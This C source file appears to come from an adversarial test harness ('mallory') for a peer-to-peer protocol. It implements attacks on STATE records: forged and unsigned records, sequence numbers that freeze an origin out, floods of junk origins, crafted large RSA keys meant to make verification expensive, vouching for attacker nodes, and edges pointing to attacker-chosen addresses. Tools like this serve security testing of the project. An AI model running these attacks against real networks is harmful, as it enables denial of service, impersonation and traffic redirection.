// SPDX-License-Identifier: GPL-2.0
/*
 * Attacks on STATE records (protocol.md 9.3, 9.4): forged and replayed
 * records, seqs that freeze an origin out, floods of new origins, keys
 * that are expensive to check, and edges to addresses of our choosing.
 */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>

#include "mallory.h"

#define FREEZE_SEQ	(UINT64_MAX - 1)	/* ticket 14, finding 2 */

/* The victim's own origin with a seq near 2^64, signed by us. */
static int own_seq(struct mallory *m, int argc, char **argv)
{
	struct mv_meta_state s;
	uint8_t *key;
	size_t len;
	int err = mv_identity_public_encode(m->key, &key, &len);

	(void)argc;
	(void)argv;
	if (err)
		return err;
	mallory_state_init(&s, m->victim, mv_identity_type(m->key), key, len);
	s.seq = FREEZE_SEQ;
	err = mallory_send_state(m, &s, m->key, 0);
	free(key);
	return err;
}

/* Our own origin, signed, with a seq far ahead of any clock. */
static int future_seq(struct mallory *m, int argc, char **argv)
{
	struct mv_meta_state s;

	mallory_state_init(&s, m->name, 0, NULL, 0);
	s.seq = argc ? strtoull(argv[0], NULL, 0) : FREEZE_SEQ;
	return mallory_send_own_state(m, &s);
}

/* Another origin's STATE, not signed by it. */
static int forge(struct mallory *m, int argc, char **argv)
{
	uint8_t key[32];
	struct mv_meta_state s;

	(void)argc;
	if (mv_random(key, sizeof(key)))
		return -EIO;
	mallory_state_init(&s, argv[0], MV_KEY_ED25519, key, sizeof(key));
	return mallory_send_state(m, &s, NULL, 64);
}

/*
 * @count new origins: each with a key of its own and, when @sign, signed
 * with it (so that only limits on vouching stop them).
 */
static int flood(struct mallory *m, unsigned long count, bool sign)
{
	unsigned int tag = (unsigned int)mallory_wall_ms();
	unsigned long i;

	for (i = 0; i < count; i++) {
		struct mv_identity *id = NULL;
		struct mv_meta_state s;
		char origin[40];
		uint8_t raw[32], *key = raw;
		size_t len = sizeof(raw);
		int err;

		snprintf(origin, sizeof(origin), "junk%08x_%lu", tag, i);
		if (sign) {
			err = mv_identity_generate(MV_KEY_ED25519, 0, &id);
			err = err ?: mv_identity_public_encode(id, &key, &len);
		} else {
			err = mv_random(raw, sizeof(raw));
		}
		if (err) {
			mv_identity_free(id);
			return err;
		}
		mallory_state_init(&s, origin, MV_KEY_ED25519, key, len);
		err = mallory_send_state(m, &s, id, 64);
		if (sign)
			free(key);
		mv_identity_free(id);
		if (err)
			return err;
		/* Keep reading, or the victim's floods back fill its buffers. */
		if (!(i % 256) && !mallory_pump(m, 1))
			return -EPIPE;
	}
	return 0;
}

static int junk(struct mallory *m, int argc, char **argv)
{
	(void)argc;
	return flood(m, strtoul(argv[0], NULL, 0), true);
}

static int junk_unsigned(struct mallory *m, int argc, char **argv)
{
	(void)argc;
	return flood(m, strtoul(argv[0], NULL, 0), false);
}

static size_t der_len(uint8_t *p, size_t n)
{
	if (n < 128) {
		p[0] = n;
		return 1;
	}
	if (n < 256) {
		p[0] = 0x81;
		p[1] = n;
		return 2;
	}
	p[0] = 0x82;
	p[1] = n >> 8;
	p[2] = n & 0xff;
	return 3;
}

/* INTEGER of the unsigned big-endian @mag (no leading zero byte). */
static size_t der_int(uint8_t *p, const uint8_t *mag, size_t n)
{
	size_t o = 0;
	bool pad = mag[0] & 0x80;

	p[o++] = 0x02;
	o += der_len(p + o, n + pad);
	if (pad)
		p[o++] = 0;
	memcpy(p + o, mag, n);
	return o + n;
}

/*
 * An origin whose RSA key (PKCS#1: a modulus of @bits bits, exponent
 * @exp; not a real key, as checking it needs none) the victim must not
 * spend time on.
 */
static int rsa_key(struct mallory *m, int argc, char **argv)
{
	unsigned long bits = strtoul(argv[0], NULL, 0);
	unsigned long long exp = strtoull(argv[1], NULL, 0);
	size_t nb = (bits + 7) / 8, body, o = 0, e_len = 0;
	uint8_t e[8], *mod, *ints, *der;
	struct mv_meta_state s;
	char origin[32];
	int err;

	(void)argc;
	if (bits < 16 || bits > 65536 || !exp)
		return -EINVAL;
	while (exp >> (8 * e_len) && e_len < 8)
		e_len++;
	for (o = 0; o < e_len; o++)
		e[o] = exp >> (8 * (e_len - 1 - o));
	mod = malloc(nb);
	ints = malloc(nb + 32);
	der = malloc(nb + 40);
	if (!mod || !ints || !der) {
		err = -ENOMEM;
		goto out;
	}
	memset(mod, 0x5a, nb);
	mod[0] = 1u << ((bits - 1) % 8);
	mod[nb - 1] |= 1;
	body = der_int(ints, mod, nb);
	body += der_int(ints + body, e, e_len);
	o = 0;
	der[o++] = 0x30;
	o += der_len(der + o, body);
	memcpy(der + o, ints, body);
	snprintf(origin, sizeof(origin), "rsa%lu_%llu", bits,
		 strtoull(argv[1], NULL, 0));
	mallory_state_init(&s, origin, MV_KEY_RSA, der, o + body);
	err = mallory_send_state(m, &s, NULL, nb);
out:
	free(mod);
	free(ints);
	free(der);
	return err;
}

/*
 * A STATE of @name, signed with the private key in @keyfile: we vouch
 * for a node of ours, which can then connect as a member itself.
 */
static int introduce(struct mallory *m, int argc, char **argv)
{
	struct mv_identity *id = NULL;
	struct mv_meta_state s;
	struct mv_diag diag;
	uint8_t *key = NULL;
	size_t len;
	int err;

	(void)argc;
	mv_diag_init(&diag);
	err = mv_identity_load_private(argv[1], &id, &diag);
	mv_diag_free(&diag);
	err = err ?: mv_identity_public_encode(id, &key, &len);
	if (!err) {
		mallory_state_init(&s, argv[0], mv_identity_type(id), key, len);
		err = mallory_send_state(m, &s, id, 0);
	}
	free(key);
	mv_identity_free(id);
	return err;
}

/* Our own STATE with an edge to @peer at an address of our choosing. */
static int edge(struct mallory *m, int argc, char **argv)
{
	struct mv_state_edge e = { .weight = 1 };
	struct mv_meta_state s;
	struct in6_addr a6;
	struct in_addr a4;

	(void)argc;
	snprintf(e.peer, sizeof(e.peer), "%s", argv[0]);
	if (inet_pton(AF_INET, argv[1], &a4) == 1) {
		e.address.family = 4;
		memcpy(e.address.addr, &a4, 4);
	} else if (inet_pton(AF_INET6, argv[1], &a6) == 1) {
		e.address.family = 6;
		memcpy(e.address.addr, &a6, 16);
	} else {
		return -EINVAL;
	}
	e.address.port = atoi(argv[2]);
	mallory_state_init(&s, m->name, 0, NULL, 0);
	s.edges = &e;
	s.n_edges = 1;
	return mallory_send_own_state(m, &s);
}

const struct mallory_attack mallory_state_attacks[] = {
	{ "own-seq", "", "the victim's own origin, seq 2^64-2, signed by us "
	  "(finding 2)", 0, own_seq },
	{ "future-seq", "[SEQ]", "our own STATE, signed, seq SEQ (default "
	  "2^64-2)", 0, future_seq },
	{ "forge", "ORIGIN", "ORIGIN's STATE with a garbage signature", 1,
	  forge },
	{ "junk", "COUNT", "COUNT new origins, each signed with a key of its "
	  "own (we vouch for them)", 1, junk },
	{ "junk-unsigned", "COUNT", "COUNT new origins with garbage "
	  "signatures", 1, junk_unsigned },
	{ "rsa-key", "BITS EXPONENT", "an origin with an RSA key of BITS bits "
	  "and EXPONENT", 2, rsa_key },
	{ "introduce", "NAME KEYFILE", "NAME's STATE signed with the key in "
	  "KEYFILE: NAME may then connect with it (finding 9)", 2, introduce },
	{ "edge", "PEER ADDRESS PORT", "our own STATE with an edge to PEER at "
	  "ADDRESS PORT (PEER announces none back)", 3, edge },
	{ NULL },
};
